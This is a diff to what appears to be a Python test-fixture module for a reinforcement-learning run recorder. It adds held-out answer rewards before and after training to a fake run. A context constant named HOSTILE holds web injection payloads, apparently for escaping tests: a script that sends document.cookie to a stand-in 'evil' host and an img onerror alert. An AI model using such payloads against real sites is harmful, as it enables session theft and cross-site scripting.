@@ -3,14 +3,17 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable, Mapping, Sequence
 from pathlib import Path
 from typing import Any
 
+from outdo.runs.held_out import HeldOutAnswer, held_out_answers
 from outdo.runs.writer import RunWriter
 from outdo.types import Grade, Group, Prompt, Trajectory
 
 RECIPE = {"dataset_name": "arithmetic", "model_name_or_path": "tiny", "max_steps": 30, "seed": 0, "num_generations": 4}
+BEFORE = {"1+2": 0.0, "2+2": 1.0, "3+2": 1.0, "4+2": 0.5, "5+2": 0.0, "6+2": None}  # rewards of held-out answers
+AFTER = {"1+2": 1.0, "2+2": 0.0, "3+2": 1.0, "4+2": 0.9, "5+2": 1.0, "6+2": 1.0}
 HOSTILE = (
     "<script>fetch('//evil/'+document.cookie)</script>\x1b[31mred\x1b[0m \u202egnorw\u202c \u2028 </textarea><img "
     "src=x onerror=alert(1)> ]]> \x00 '\"&amp; \U0001f600"
@@ -29,6 +32,13 @@ def group(prompt: str, texts: Sequence[str], rewards: Sequence[float | None], ve
     return Group(asked, (1, 2), answers, grades, advantages)
 
 
+def held_out(rewards: Mapping[str, float | None], said: str = "it is") -> tuple[HeldOutAnswer, ...]:
+    """A greedy answer to each prompt; 1 and more is right, None is broken."""
+    greedy = [group(prompt, [f"{said} {prompt}"], [reward]) for prompt, reward in rewards.items()]
+    sampled = [group(prompt, ["a", "b", "c"], [1.0, 0.0, None]) for prompt in rewards]
+    return held_out_answers(greedy, sampled)
+
+
 def numbers(step: int, reward: float = 0.5, **more: Any) -> dict[str, Any]:
     """A row of metrics."""
     row = {"reward_mean": reward, "success_rate": reward, "kl_mean": 0.01, "entropy_mean": 0.5, "len_mean": 3.0}
@@ -42,6 +52,7 @@ def make_run(
     """A run whose reward rises from 0 to 1; every step has the same two prompts unless others are given."""
     run = RunWriter.create(folder, RECIPE | {"max_steps": steps}, {"kind": "grpo", "device": "cpu", "parameters": 7})
     run.record_eval({"step": 0, "split": "test", "n": 10, "success_rate": 0.1, "low": 0.0, "high": 0.4, "pass@1": 0.2})
+    run.record_answers(0, "test", held_out(BEFORE, "before"))
     for step in range(steps):
         part = step / max(1, steps - 1)
         easy = group("1+1", [f"two {step}", "2", "2", "3"], [1.0, 1.0, 1.0, part], step)
@@ -49,6 +60,7 @@ def make_run(
         run.record_step(step + 1, numbers(step, round(part, 6)), [easy, hard] if groups is None else list(groups))
     if steps:
         row = {"step": steps, "split": "test", "n": 10, "success_rate": 0.9, "low": 0.6, "high": 0.98, "pass@1": 0.8}
+        run.record_answers(steps, "test", held_out(AFTER, "after"))
         run.record_eval(row)
     if ended:
         run.finish(ended)  # type: ignore[arg-type]
